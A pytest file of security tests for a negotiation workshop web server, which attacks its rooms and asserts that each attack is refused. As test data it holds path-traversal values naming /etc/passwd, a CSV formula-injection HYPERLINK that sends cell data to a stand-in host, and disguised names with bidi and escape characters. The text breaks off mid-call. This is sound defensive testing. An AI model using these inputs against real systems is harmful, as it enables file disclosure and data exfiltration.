"""Attacks on workshop rooms, each made and shown refused (issue 14, S1-S7; the steps are in
shared/reviews/workshop.md).

Each item is attacked through the Room API or a page rendered with `solara.render`, and, where
the attack goes through a URL or a form, through a real `bloc workshop` server driven by a
headless chromium (Playwright), as a participant on the venue's network would make it.
"""

from __future__ import annotations

import csv
import io
import os
import re
import urllib.error
import urllib.request
import zipfile
from pathlib import Path
from urllib.parse import parse_qsl, urlencode, urlsplit

import ipyvuetify as v
import pytest
import solara

from agents.human import accept, reject
from negotiation.rooms import workshop as workshop_module
from negotiation.rooms.workshop import Refused, Settings, Workshop, WorkshopError
from negotiation.rules.types import Action, Decision, Reason, SupplierAction, SupplierMove
from negotiation.ui import workshop_app as wa
from tests.browser_support import FACILITATOR_SECRET, create_room, join, new_page
from tests.workshop_helpers import eventually, texts

SCENARIO = "ministerial-2026"


@pytest.fixture(scope="module")
def server(workshop):
    """The session's `bloc workshop` process (tests/browser_support.py): (its address, the
    process)."""
    return workshop


# ----------------------------------------------------------------------------------------------
# S1: a participant sees only their own seat's panel and pending decision


def test_s1_a_seat_in_the_link_does_not_show_another_seats_decision(ws):
    room = ws.create(SCENARIO, rounds=3)
    alice, bob = room.join("Alice"), room.join("Bob")
    room.claim(alice.token, "japan")
    room.claim(bob.token, "eu")
    room.start(room.admin_token)
    room.submit(bob.token, "eu", reject())  # hidden: "see others' decisions" is off
    _, rc = solara.render(wa.ParticipantView(room, alice.token, "eu"), handle_error=False)
    eventually(lambda: "your decision as Japan" in texts(rc))
    page = texts(rc)
    assert "seat named in this link is ignored" in page
    assert "your decision as European Union" not in page
    assert "(by Bob)" not in page and "Decided:" not in page


@pytest.mark.browser
@pytest.mark.slow
def test_s1_editing_the_private_link_shows_only_ones_own_seat(server, browser):
    url, _ = server
    fctx, fac, code = create_room(browser, url)
    actx, alice = join(browser, url, code, "Alice", "japan")
    bctx, bob = join(browser, url, code, "Bob", "eu")
    fac.locator(".ws-start").click()
    bob.locator(".ws-reject").click()
    fac.locator(".ws-seat-row-eu[data-decided='1']").wait_for()
    for seat in ("eu", "supplier"):
        forged = actx.new_page()
        forged.set_default_timeout(30_000)
        forged.goto(f"{alice.url}&seat={seat}")
        forged.locator(".ws-seat-ignored").wait_for()
        forged.locator(".ws-decision-japan").wait_for()
        assert forged.locator(f".ws-decision-{seat}").count() == 0
        text = forged.locator(".ws-page").inner_text()
        assert "(by Bob)" not in text and "Decided:" not in text
        forged.close()
    for ctx in (fctx, actx, bctx):
        ctx.close()


# ----------------------------------------------------------------------------------------------
# S2: no page reads a server file from a URL or form value

SECRET_IN_FILE = "sk-do-not-leak-4242"


@pytest.fixture
def server_files(tmp_path):
    """Paths an attacker might name: a TOML holding a secret, a file the server can read that
    is not TOML, and a path that does not exist."""
    toml = tmp_path / "secret.toml"
    toml.write_text(f'seed = "{SECRET_IN_FILE}"\n')
    return [str(toml), "/etc/passwd", str(tmp_path / "missing.toml"), "../scenarios/x"]


def test_s2_rooms_are_created_only_on_the_servers_scenarios(ws, server_files):
    messages = set()
    for path in server_files:
        with pytest.raises(WorkshopError) as refused:
            ws.create(path)
        messages.add(str(refused.value))
    # One message for all: it says nothing of whether the path exists or what it holds.
    (message,) = messages
    assert SECRET_IN_FILE not in message and "TOML" not in message and "file" not in message
    assert not ws.rooms
    assert ws.create(SCENARIO).scenario == SCENARIO  # a built-in name still works


def test_s2_the_home_forms_scenario_cannot_be_a_path(ws, server_files, monkeypatch):
    """The seat list follows the scenario chosen in the form; a form value forged to a path
    (the widget's value is whatever the browser sends) lists nothing and reads nothing."""
    read: list[str] = []
    real_load = workshop_module.load_scenario
    monkeypatch.setattr(
        workshop_module, "load_scenario", lambda n, *a: read.append(n) or real_load(n, *a)
    )
    for path in server_files:
        assert wa._seat_names(path) == []
    assert read == []
    assert "japan" in wa._seat_names(SCENARIO)


MINISTERIAL = Path(__file__).resolve().parents[1] / "scenarios" / "ministerial-2026.toml"


def test_s2_an_uploaded_scenario_is_read_only_with_the_secret_and_capped():
    w = Workshop(ticker=False, facilitator_secret=FACILITATOR_SECRET)
    good = MINISTERIAL.read_bytes().replace(b'name = "ministerial-2026"', b'name = "our own"', 1)
    reads: list[int] = []

    def reader(data: bytes):
        def read(n: int) -> bytes:
            reads.append(n)
            return data[:n]

        return read

    with pytest.raises(Refused):
        w.open_room_from_upload("guess", reader(good))
    assert reads == []  # nothing read without the secret
    room = w.open_room_from_upload(FACILITATOR_SECRET, reader(good), rounds=2)
    assert room.scenario == "our own" and reads == [workshop_module.MAX_UPLOAD_BYTES + 1]
    assert room.file_stem().startswith(f"workshop-{room.code}-our-own-seed")
    for data, words in [
        (good + b"#" * workshop_module.MAX_UPLOAD_BYTES, "at most 64 KB"),
        (b'extends = "/etc/passwd"\n', "cannot extend"),
        (b"\xff\xfe not text", "not TOML"),
        (b"seed = [", "not TOML"),
        (f'seed = "{SECRET_IN_FILE}"\n'.encode(), "uploaded file"),
    ]:
        with pytest.raises(WorkshopError, match=words):
            w.open_room_from_upload(FACILITATOR_SECRET, reader(data))
    assert len(w.rooms) == 1


@pytest.mark.browser
@pytest.mark.slow
def test_s2_the_solo_link_reads_no_server_file(server, browser, server_files):
    url, _ = server
    context, page = new_page(browser)
    shown = set()
    for path in server_files:
        page.goto(f"{url}/solo?{urlencode({'scenario': path, 'seat': 'japan'})}")
        error = page.locator(".ws-error")
        error.wait_for()
        shown.add(error.inner_text())
        assert "token=" not in page.url  # no room was opened
    (message,) = shown
    assert SECRET_IN_FILE not in message and "TOML" not in message and "file" not in message
    page.goto(f"{url}/solo?scenario={SCENARIO}&seat=japan&rounds=2")  # a built-in name works
    page.wait_for_url("**token=**")
    context.close()


# ----------------------------------------------------------------------------------------------
# S3: creating rooms needs the facilitator's secret; caps; joins rate-limited; R3


class Clock:
    """A clock the test moves by hand (seconds)."""

    def __init__(self, t: float = 1_800_000_000.0):
        self.t = t

    def __call__(self) -> float:
        return self.t


def test_s3_a_room_opens_only_with_the_facilitators_secret():
    w = Workshop(ticker=False, facilitator_secret=FACILITATOR_SECRET)
    for guess in ("", "guess", FACILITATOR_SECRET[:-1], FACILITATOR_SECRET + " ", None):
        with pytest.raises(Refused, match="not this server's facilitator secret"):
            w.open_room(guess, SCENARIO)  # type: ignore[arg-type]
    assert not w.rooms
    assert w.open_room(FACILITATOR_SECRET, SCENARIO).scenario == SCENARIO
    # A server without a secret opens no room from a page, whatever is typed.
    bare = Workshop(ticker=False)
    for guess in ("", "None"):
        with pytest.raises(Refused):
            bare.open_room(guess, SCENARIO)


def test_s3_guessing_the_secret_is_rate_limited_per_browser():
    w = Workshop(ticker=False, facilitator_secret=FACILITATOR_SECRET)
    for n in range(workshop_module.SECRET_TRIES_PER_BROWSER):
        with pytest.raises(Refused, match="not this server's"):
            w.open_room(f"guess-{n}", SCENARIO, client="session:attacker")
    with pytest.raises(Refused, match="Too many wrong secrets"):
        w.open_room(FACILITATOR_SECRET, SCENARIO, client="session:attacker")
    assert w.open_room(FACILITATOR_SECRET, SCENARIO, client="session:facilitator")


def test_s3_rooms_per_server_are_capped_and_solo_rooms_never_crowd_out_facilitators(
    monkeypatch,
):
    monkeypatch.setattr(workshop_module, "MAX_ROOMS", 2)
    monkeypatch.setattr(workshop_module, "MAX_SOLO_ROOMS", 3)
    w = Workshop(ticker=False, facilitator_secret=FACILITATOR_SECRET)
    for n in range(3):  # an attacker fills the one-person rooms, from several browsers
        w.solo(SCENARIO, "japan", client=f"session:{n}", rounds=2)
    with pytest.raises(WorkshopError, match="too many rooms"):
        w.solo(SCENARIO, "japan", client="session:9", rounds=2)
    for _ in range(2):  # the facilitator still opens rooms, up to the cap
        w.open_room(FACILITATOR_SECRET, SCENARIO)
    with pytest.raises(WorkshopError, match="too many rooms"):
        w.open_room(FACILITATOR_SECRET, SCENARIO)


def test_s3_a_full_server_forgets_finished_or_idle_rooms_to_make_space(monkeypatch):
    monkeypatch.setattr(workshop_module, "MAX_ROOMS", 2)
    monkeypatch.setattr(workshop_module, "MAX_SOLO_ROOMS", 1)
    w = Workshop(ticker=False, facilitator_secret=FACILITATOR_SECRET)
    done = w.open_room(FACILITATOR_SECRET, SCENARIO, rounds=1)
    done.start(done.admin_token)
    done.force(done.admin_token)  # its one round
    assert done.phase == "over"
    live = w.open_room(FACILITATOR_SECRET, SCENARIO)
    newer = w.open_room(FACILITATOR_SECRET, SCENARIO)  # the finished room makes way
    assert set(w.rooms) == {live.code, newer.code}
    old, _ = w.solo(SCENARIO, "japan", rounds=2)
    with pytest.raises(WorkshopError, match="too many rooms"):  # its page may come back
        w.solo(SCENARIO, "japan", rounds=2)
    for p in old.participants.values():  # nobody has had it open for long
        p.last_seen -= workshop_module.SOLO_IDLE + 1
    old.created -= workshop_module.SOLO_IDLE + 1
    fresh, _ = w.solo(SCENARIO, "japan", rounds=2)
    assert old.code not in w.rooms and fresh.code in w.rooms


def test_s3_one_browser_opens_few_solo_rooms():
    w = Workshop(ticker=False)
    for _ in range(workshop_module.SOLO_ROOMS_PER_BROWSER):
        w.solo(SCENARIO, "japan", client="session:a", rounds=2)
    with pytest.raises(Refused, match="opened many rooms"):
        w.solo(SCENARIO, "japan", client="session:a", rounds=2)
    assert w.solo(SCENARIO, "japan", client="session:b", rounds=2)


def test_s3_a_room_takes_a_capped_number_of_people(ws, monkeypatch):
    monkeypatch.setattr(workshop_module, "MAX_PARTICIPANTS", 4)
    monkeypatch.setattr(workshop_module, "MAX_JOINS", 6)
    room = ws.create(SCENARIO, rounds=2)
    people = [room.join(f"P{n}", client=f"session:{n}") for n in range(4)]
    with pytest.raises(Refused, match="room is full"):
        room.join("P4", client="session:4")
    room.remove(room.admin_token, people[0].id)  # a place frees up
    room.join("P5", client="session:5")
    room.remove(room.admin_token, people[1].id)
    room.join("P6", client="session:6")
    room.remove(room.admin_token, people[2].id)
    with pytest.raises(Refused, match="room is full"):  # joins in all are capped too
        room.join("P7", client="session:7")


def test_s3_joins_from_one_browser_are_rate_limited():
    clock = Clock()
    w = Workshop(ticker=False)
    room = w.create(SCENARIO, rounds=2, clock=clock)
    for n in range(workshop_module.JOINS_PER_BROWSER):
        room.join(f"Bot{n}", client="session:bot")
    with pytest.raises(Refused, match="joined this room too many times"):
        room.join("Bot9", client="session:bot")
    room.join("Alice", client="session:alice")  # others still join
    clock.t += workshop_module.JOIN_WINDOW
    room.join("Bot9", client="session:bot")  # and the browser, once the window has passed


def test_s3_joined_lines_never_push_game_events_out_of_view(ws):
    room = ws.create(SCENARIO, rounds=3)
    alice = room.join("Alice")
    room.claim(alice.token, "japan")
    room.start(room.admin_token)
    room.submit(alice.token, "japan", reject())
    for n in range(30):
        room.join(f"Late{n}")
    snap = room.snapshot()
    story = [text for _, _, text, _ in snap.narrative(20)]
    assert not any("joined the room" in t for t in story)
    assert any("session started" in t for t in story)
    assert "joined the room" not in wa.narrative_html(snap, 20)
    # kept in the record, where the facilitator reads the roster
    assert sum(e["kind"] == "joined_room" for e in room.record()["room_events"]) == 31


def test_s3_bloc_workshop_prints_a_drawn_secret_and_refuses_a_short_one(monkeypatch, capsys):
    from negotiation.cli import entry

    monkeypatch.delenv("BLOC_FACILITATOR_SECRET", raising=False)
    started: list[dict] = []

    def execv(path, argv):  # stands for the server: what it would get
        started.append(dict(os.environ))
        raise SystemExit(0)

    monkeypatch.setattr(os, "execv", execv)
    with monkeypatch.context() as m:
        m.setattr(os, "environ", dict(os.environ))
        entry(["workshop", "--port", "8766"])
    secret = started[0]["BLOC_FACILITATOR_SECRET"]
    assert len(secret) >= 20 and secret in capsys.readouterr().err
    assert entry(["workshop", "--facilitator-secret", "short"]) == 2
    assert "at least" in capsys.readouterr().err


@pytest.mark.browser
@pytest.mark.slow
def test_s3_a_participant_cannot_create_a_room_and_joins_are_limited(server, browser):
    url, proc = server
    context, page = new_page(browser, 1280)
    page.goto(f"{url}/")
    for guess in ("", "guess"):
        page.locator(".ws-create-secret input").fill(guess)
        page.locator(".ws-create").click()
        page.locator(".ws-error", has_text="not this server's facilitator secret").wait_for()
        assert "/facilitator" not in page.url
    # The facilitator, with the secret; their link is on the console (R3).
    fctx, fac, code = create_room(browser, url)
    key = dict(parse_qsl(urlsplit(fac.url).query))["key"]
    log = Path(proc.log_path).read_text()
    assert f"room {code}" in log and f"key={key}" in log
    # One browser joins the room again and again: refused after a few.
    for n in range(workshop_module.JOINS_PER_BROWSER):
        page.goto(f"{url}/join?room={code}")
        page.locator(".ws-name input").fill(f"Bot{n}")
        page.locator(".ws-join").click()
        page.wait_for_url("**token=**")
    page.goto(f"{url}/join?room={code}")
    page.locator(".ws-name input").fill("Bot9")
    page.locator(".ws-join").click()
    page.locator(".ws-error", has_text="joined this room too many times").wait_for()
    for ctx in (context, fctx):
        ctx.close()


# ----------------------------------------------------------------------------------------------
# S4: every decision carries the round it was made for


@pytest.mark.parametrize("closes", ["forced", "timer", "last seat"])
def test_s4_a_decision_for_a_closed_round_is_refused_not_counted_for_the_next(ws, closes):
    clock = Clock()
    room = ws.create(SCENARIO, rounds=4, clock=clock, settings=Settings(timer_seconds=60))
    alice, bob = room.join("Alice"), room.join("Bob")
    room.claim(alice.token, "japan")
    room.claim(bob.token, "eu")
    room.start(room.admin_token)
    room.submit(alice.token, "japan", reject(), for_round=1)
    # round 1 closes while Alice is changing her mind
    if closes == "forced":
        room.force(room.admin_token)
    elif closes == "timer":
        clock.t += 61
        assert room.tick()
    else:
        room.submit(bob.token, "eu", reject(), for_round=1)
    assert room.snapshot().round == 1
    before = [a for a in room.record()["actions"] if a["kind"] == "submit"]
    with pytest.raises(WorkshopError, match="Round 1 closed before your decision arrived"):
        room.submit(alice.token, "japan", accept(), for_round=1)
    assert not room.snapshot().seat("japan").decided
    assert [a for a in room.record()["actions"] if a["kind"] == "submit"] == before
    room.submit(alice.token, "japan", reject(), for_round=2)  # the open round's is counted
    decisions = [a for a in room.record()["actions"] if a["kind"] == "submit"]
    assert [a["round"] for a in decisions if a["seat"] == "japan"] == [1, 2]


def test_s4_a_click_on_a_page_still_showing_the_closed_round_is_refused(ws):
    """The page's browser has not drawn round 2 yet (here: no browser acknowledges any push,
    so the page shows what it first rendered): the click is for round 1."""
    room = ws.create(SCENARIO, rounds=4, seed=1)  # a draw where the agent for Japan joins at once
    alice = room.join("Alice")
    room.claim(alice.token, "japan")
    room.start(room.admin_token)
    _, rc = solara.render(wa.ParticipantView(room, alice.token), handle_error=False)
    eventually(lambda: "your decision as Japan" in texts(rc))
    room.force(room.admin_token)  # Japan joined (an agent answered): stay or leave?
    leave = eventually(lambda: buttons_with_class(rc, "ws-leave"))[0]
    leave.click()
    eventually(lambda: "Round 1 closed before your decision arrived" in texts(rc))
    assert not room.snapshot().seat("japan").decided
    # Once the browser says it has drawn round 2, the same click counts for round 2.
    carrier = rc.find(wa.LiveParts).widget
    carrier.shown = max(rc_page_pushes(carrier))
    leave.click()
    eventually(lambda: room.snapshot().round >= 2)
    (decision,) = [a for a in room.record()["actions"] if a["kind"] == "submit"]
    assert decision["round"] == 2 and decision["decision"]["action"] == "reject"


def buttons_with_class(rc, cls: str) -> list:
    """The page's buttons with `cls` among their classes."""
    return [w for w in rc.find(v.Btn).widgets if cls in str(w.class_).split()]


def rc_page_pushes(carrier) -> list[int]:
    """The numbers of the pushes a page's LiveParts got (what a browser would acknowledge)."""
    return [seq for seq, _ in carrier.store.values()]


@pytest.mark.browser
@pytest.mark.slow
def test_s4_a_click_made_before_the_new_round_reached_the_browser_is_refused(server, browser):
    """The network holds back the server's messages to Alice's browser while the facilitator
    closes round 1: she clicks Accept on round 1's proposal, which the server refuses (it must
    not count for round 2, whose proposal she never saw)."""
    url, _ = server
    fctx, fac, code = create_room(browser, url)
    held: list = []
    hold = {"on": False}

    def delay_server_messages(ws) -> None:
        to_server = ws.connect_to_server()
        ws.on_message(to_server.send)  # the browser's messages go through at once

        def to_page(message) -> None:
            if hold["on"]:
                held.append((ws, message))
            else:
                ws.send(message)

        to_server.on_message(to_page)

    actx, alice = new_page(browser)
    actx.route_web_socket(re.compile(".*"), delay_server_messages)
    alice.goto(f"{url}/join?room={code}")
    alice.locator(".ws-name input").fill("Alice")
    alice.locator(".ws-join").click()
    alice.locator(".ws-choose-japan").click()
    alice.locator(".ws-me[data-seat='japan']").wait_for(state="attached")
    fac.locator(".ws-start").click()
    alice.locator(".ws-decision-japan .ws-accept").wait_for()
    alice.wait_for_timeout(500)  # her browser has drawn round 1 and said so
    hold["on"] = True
    fac.locator(".ws-force").click()
    fac.locator(".ws-round[data-round='1']").wait_for()
    alice.locator(".ws-accept").click()  # on round 1's proposal, still on her screen
    alice.wait_for_timeout(1000)  # the click reaches the server
    hold["on"] = False
    for ws, message in held:  # now the page gets round 2, and the answer to its click
        ws.send(message)
    alice.locator(".ws-error", has_text="Round 1 closed before your decision arrived").wait_for()
    assert fac.locator(".ws-seat-row-japan").get_attribute("data-decided") == "0"
    for ctx in (fctx, actx):
        ctx.close()


# ----------------------------------------------------------------------------------------------
# S5: bounds on every number a participant sends


def counter(**terms):
    return Decision(Action.COUNTER, Reason({}), terms=terms)


def test_s5_counter_proposals_and_their_forecasts_refuse_numbers_out_of_bounds(ws):
    room = ws.create(SCENARIO, rounds=3)
    bob = room.join("Bob")
    room.claim(bob.token, "eu")
    room.start(room.admin_token)
    lithium = room.config.minerals["lithium"].reference_price
    top = workshop_module.MAX_FLOOR_MULTIPLE * lithium
    absurd = [
        ({"floors": {"lithium": 1e300}}, "Floors"),
        ({"floors": {"lithium": top * 1.01}}, "Floors"),
        ({"floors": {"lithium": -1.0}}, "Floors"),
        ({"floors": {"lithium": float("nan")}}, "Floors"),
        ({"floors": {"lithium": "70000"}}, "Floors"),
        ({"floors": {"unobtainium": 1.0}}, "unknown mineral"),
        ({"floors": {"lithium": 70000.0}, "penalty": 1e300}, "penalty"),
        ({"floors": {"lithium": 70000.0}, "penalty": "high"}, "penalty"),
    ]
    for terms, words in absurd:
        with pytest.raises(WorkshopError, match=words) as refused:
            room.submit(bob.token, "eu", counter(**terms))
        assert len(str(refused.value)) < 200  # a clear message, not a 300-digit one
        with pytest.raises(WorkshopError, match=words):
            room.preview_counter(bob.token, terms)
    scaled = Decision(Action.COUNTER, Reason({}), counter_scale=1e300)
    with pytest.raises(WorkshopError):
        room.submit(bob.token, "eu", scaled)
    assert not any(a["kind"] == "submit" for a in room.record()["actions"])
    room.submit(bob.token, "eu", counter(floors={"lithium": top}))  # the bound itself is fine


def test_s5_side_offers_and_intensities_are_bounded(ws):
    room = ws.create(SCENARIO, rounds=3)
    sam = room.join("Sam")
    room.claim(sam.token, "supplier")
    room.start(room.admin_token)
    too_much = workshop_module.MAX_SIDE_OFFER * 1.01
    for move, words in [
        (SupplierMove(SupplierAction.SIDE_OFFER, (), 0.0, "japan", 1e300), "offer"),
        (SupplierMove(SupplierAction.SIDE_OFFER, (), 0.0, "japan", too_much), "offer"),
        (SupplierMove(SupplierAction.SIDE_OFFER, (), 0.0, "japan", float("inf")), "offer"),
        (SupplierMove(SupplierAction.FLOOD, ("gallium",), 1e300), "intensity"),
        (SupplierMove(SupplierAction.FLOOD, ("gallium",), float("nan")), "intensity"),
    ]:
        with pytest.raises(WorkshopError, match=words):
            room.submit(sam.token, "supplier", move)
        with pytest.raises(WorkshopError, match=words):
            room.preview_move(sam.token, move)
    assert not any(a["kind"] == "submit" for a in room.record()["actions"])


@pytest.mark.browser
@pytest.mark.slow
def test_s5_a_counter_proposal_of_1e300_is_refused_in_the_form(server, browser):
    url, _ = server
    fctx, fac, code = create_room(browser, url)
    bctx, bob = join(browser, url, code, "Bob", "eu")
    fac.locator(".ws-start").click()
    bob.locator(".ws-counter-open").click()
    bob.locator(".ws-counter-floor-lithium input").fill("1e300")
    bob.locator(".ws-counter-send").click()
    bob.locator(".ws-error", has_text="Floors are USD per tonne").wait_for()
    assert fac.locator(".ws-seat-row-eu").get_attribute("data-decided") == "0"
    for ctx in (fctx, bctx):
        ctx.close()


# ----------------------------------------------------------------------------------------------
# S6: exports neutralise spreadsheet formulas

FORMULAS = ['=HYPERLINK("http://ev.il/?"&A1,"go")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would run this CSV cell as a formula: text that starts with one
    of = + - @ (or a tab or carriage return); a number (a negative one too) is not."""
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_s6_csv_exports_neutralise_formulas_and_json_keeps_the_names(ws):
    room = ws.create(SCENARIO, rounds=3)
    people = [room.join(name) for name in FORMULAS]
    room.claim(people[0].token, "japan")
    room.start(room.admin_token)
    room.submit(people[0].token, "japan", reject())
    room.force(room.admin_token)
    exports = {t: room.export_csv(t) for t in ("decisions", "participants", "events", "rounds")}
    with zipfile.ZipFile(io.BytesIO(room.export_zip())) as z:
        exports.update({f"zip:{n}": z.read(n).decode() for n in z.namelist() if n.endswith(".csv")})
    for name, text in exports.items():
        formulas = [cell for cell in csv_cells(text) if is_formula(cell)]
        assert not formulas, (name, formulas)
    participants = csv_cells(exports["participants"])
    assert "'" + FORMULAS[0] in participants and "'-2+3" in participants
    assert "'" + FORMULAS[0] in csv_cells(exports["decisions"])
    assert [p["name"] for p in room.record()["participants"]] == FORMULAS  # exact in JSON


@pytest.mark.browser
@pytest.mark.slow
def test_s6_a_formula_name_downloads_as_text(server, browser, tmp_path):
    url, _ = server
    fctx, fac, code = create_room(browser, url)
    ectx, eve = join(browser, url, code, FORMULAS[0], "japan")
    fac.locator(".ws-start").click()
    eve.locator(".ws-reject").click()
    fac.locator(".ws-round[data-round='1']").wait_for()
    fac.get_by_role("tab", name="Export").click()
    with fac.expect_download() as info:
        fac.locator(".ws-download-decisions").click()
    path = tmp_path / "decisions.csv"
    info.value.save_as(path)
    cells = csv_cells(path.read_text())
    assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells
    for ctx in (fctx, ectx):
        ctx.close()


# ----------------------------------------------------------------------------------------------
# S7: names normalised, control and format characters stripped, capped, unique

BIDI_OVERRIDE = "\u202e"


def test_s7_a_second_bob_cannot_join_in_disguise(ws):
    room = ws.create(SCENARIO, rounds=3)
    room.join("Bob")
    for disguise in ("Bob\u200b", "B\u200dob", "\uff22\uff4f\uff42", "BOB", " Bob\t", "Bob\u2060"):
        with pytest.raises(WorkshopError, match="already in the room"):
            room.join(disguise)
    assert [p.name for p in room.snapshot().participants] == ["Bob"]


def test_s7_names_lose_control_and_format_characters_and_are_capped(ws):
    room = ws.create(SCENARIO, rounds=3)
    eve = room.join(f"{BIDI_OVERRIDE}Eve\x00\x1b[31m\n\u2028Lynn\u2066")
    assert eve.name == "Eve[31m Lynn"
    long = room.join("x" * 5000)
    assert long.name == "x" * workshop_module.MAX_NAME
    for nothing in ("\u200b\u200b", "\x00\n\t", BIDI_OVERRIDE):
        with pytest.raises(WorkshopError, match="Give a display name"):
            room.join(nothing)
    room.claim(eve.token, "japan")
    room.start(room.admin_token)
    snap = room.snapshot()
    shown = wa.narrative_html(snap) + wa.seats_html(snap, reveal=True)
    assert BIDI_OVERRIDE not in shown and "\x1b" not in shown and "Eve[31m Lynn" in shown


@pytest.mark.browser
@pytest.mark.slow
def test_s7_names_are_cleaned_and_unique_through_the_join_form(server, browser):
    url, _ = server
    fctx, fac, code = create_room(browser, url)
    bctx, _bob = join(browser, url, code, "Bob")
    ectx, eve = join(browser, url, code, f"{BIDI_OVERRIDE}Eve\u200b")
    assert eve.locator(".ws-me").get_attribute("data-name") == "Eve"
    # A second "Bob", with a zero-width space, on another device: refused.
    xctx, fake = new_page(browser)
    fake.goto(f"{url}/join?room={code}")
    fake.locator(".ws-name input").fill("Bob\u200b")
    fake.locator(".ws-join").click()
    fake.locator(".ws-error", has_text="already in the room").wait_for()
    fac.locator(".ws-facilitator", has_text="Eve").wait_for()
    assert BIDI_OVERRIDE not in fac.locator(".ws-page").inner_text()
    for ctx in (fctx, bctx, ectx, xctx):
        ctx.close()


# ----------------------------------------------------------------------------------------------
# S8: remove can bar; the facilitator can lock the seats


def test_s8_a_barred_participant_cannot_rejoin_under_another_name(ws):
    room = ws.create(SCENARIO, rounds=3)
    mallory = room.join("Mallory", client="session:m")
    room.claim(mallory.token, "japan")
    room.start(room.admin_token)
    room.remove(room.admin_token, mallory.id, ban=True)
    for name, client in [("Mal", "session:m"), ("Mallory", "session:other"), ("MALLORY", "")]:
        with pytest.raises(Refused, match="barred you"):
            room.join(name, client=client)
    with pytest.raises(Refused):
        room.claim(mallory.token, "japan")  # the old link is dead too
    assert room.join("Alice", client="session:a")  # others still join
    # A plain remove does not bar (the facilitator may let someone back in).
    bob = room.join("Bob", client="session:b")
    room.remove(room.admin_token, bob.id)
    assert room.join("Bob", client="session:b")


def test_s8_locked_seats_are_assigned_by_the_facilitator_only(ws):
    room = ws.create(SCENARIO, rounds=3)
    alice, late = room.join("Alice"), room.join("Late")
    room.claim(alice.token, "japan")
    room.start(room.admin_token)
    room.configure(room.admin_token, seats_locked=True)
    for seat in ("eu", "japan", "supplier"):  # an agent's seat, or someone's team
        with pytest.raises(Refused, match="locked the seats"):
            room.claim(late.token, seat)
    with pytest.raises(Refused, match="locked the seats"):
        room.release(alice.token)
    with pytest.raises(Refused):
        room.assign("guess", late.id, "eu")
    room.assign(room.admin_token, late.id, "eu")
    assert room.snapshot().participant(late.id).seat == "eu"
    room.assign(room.admin_token, alice.id, None)
    assert room.snapshot().participant(alice.id).seat is None


@pytest.mark.browser
@pytest.mark.slow
def test_s8_barred_from_the_facilitators_page_and_locked_seats(server, browser):
    url, _ = server
    fctx, fac, code = create_room(browser, url)
    mctx, mallory = join(browser, url, code, "Mallory", "japan")
    fac.locator(".ws-facilitator", has_text="Mallory").wait_for()
    fac.locator(".ws-ban-p1").click()
    mallory.locator(".ws-refused", has_text="removed you").wait_for()
    mallory.goto(f"{url}/join?room={code}")  # the same device, a new name
    mallory.locator(".ws-name input").fill("Not Mallory")
    mallory.locator(".ws-join").click()
    mallory.locator(".ws-error", has_text="barred you").wait_for()
    fac.locator(".ws-lock-seats label").click()
    fac.locator(".ws-lock-seats input[aria-checked='true']").wait_for(state="attached")
    cctx, carol = join(browser, url, code, "Carol")
    carol.locator(".ws-locked").wait_for()
    assert carol.locator(".ws-choose-eu").count() == 0
    for ctx in (fctx, mctx, cctx):
        ctx.close()


def test_s8_only_the_facilitator_locks_seats_seats_people_resets_and_messages(ws):
    """The toolkit's actions (tests/test_workshop_toolkit.py) need the facilitator key: a
    participant's token, a guess, the room code or nothing is refused, and nothing changes."""
    room = ws.create(SCENARIO, rounds=3)
    mallory, alice = room.join("Mallory"), room.join("Alice")
    room.claim(mallory.token, "japan")
    room.claim(alice.token, "eu")
    room.start(room.admin_token)
    before = room.record()
    for key in (mallory.token, "", "guess", None, room.code):
        attempts = [
            lambda k=key: room.lock_seat(k, "eu"),
            lambda k=key: room.lock_seat(k, "japan"),
            lambda k=key: room.seat_person(k, "Mallory2", "us"),
            lambda k=key: room.announce(k, "The session is cancelled: go home"),
            lambda k=key: room.reset_practice(k),
        ]
        for attempt in attempts:
            with pytest.raises(Refused, match="Only the facilitator"):
                attempt()
    after = room.record()
    for field in ("locked_seats", "message", "practice", "actions", "participants"):
        assert after[field] == before[field]
    # Her own page has none of the facilitator's controls, and her token opens no
    # facilitator page.
    _, rc = solara.render(wa.ParticipantView(room, mallory.token), handle_error=False)
    for cls in ("ws-practice", "ws-message-send", "ws-lock-eu", "ws-seat-person"):
        assert not rc.find(v.Btn, class_=cls).widgets
    assert not room.check_admin(mallory.token)


@pytest.mark.browser
@pytest.mark.slow
def test_s8_the_printable_debrief_needs_the_facilitator_key(server, browser):
    """The debrief (`/debrief`) names every person and every decision: a participant's token
    as the key, no key, a guess or the room's code is refused and shows nothing of the room;
    the facilitator's key opens it."""
    url, _ = server
    fctx, fac, code = create_room(browser, url)
    mctx, mallory = join(browser, url, code, "Mallory", "japan")
    fac.locator(".ws-facilitator", has_text="Mallory").wait_for()
    token = dict(parse_qsl(urlsplit(mallory.url).query))["token"]
    for query in (
        {"room": code, "key": token},
        {"room": code},
        {"room": code, "key": "guess"},
        {"room": code, "key": code},
        {"room": code, "token": token},
    ):
        mallory.goto(f"{url}/debrief?{urlencode(query)}")
        mallory.locator(".ws-refused").wait_for()
        text = mallory.locator(".ws-page").inner_text()
        assert "facilitator's link only" in text
        assert "Mallory" not in text and "Debrief:" not in text
        assert mallory.locator(".ws-debrief-results").count() == 0
    key = dict(parse_qsl(urlsplit(fac.url).query))["key"]
    fac.goto(f"{url}/debrief?{urlencode({'room': code, 'key': key})}")
    fac.locator(".ws-debrief-results").wait_for()
    assert fac.locator(".ws-refused").count() == 0
    for ctx in (fctx, mctx):
        ctx.close()


# ----------------------------------------------------------------------------------------------
# S10: the server's resource page is not public; security headers


def http_get(url: str, headers: dict | None = None) -> tuple[int, dict, str]:
    """(status, headers, body) of a GET, errors included."""
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=30) as r:
            return r.status, dict(r.headers), r.read().decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, dict(e.headers), e.read().decode(errors="replace")


@pytest.mark.slow
def test_s10_resourcez_needs_the_secret_and_pages_carry_security_headers(server):
    url, _ = server
    for headers in ({}, {"Authorization": "Bearer guess"}, {"Authorization": "Basic x"}):
        status, _, body = http_get(f"{url}/resourcez", headers)
        assert status == 404 and "cpu" not in body.lower() and "memory" not in body.lower()
    status, _, body = http_get(
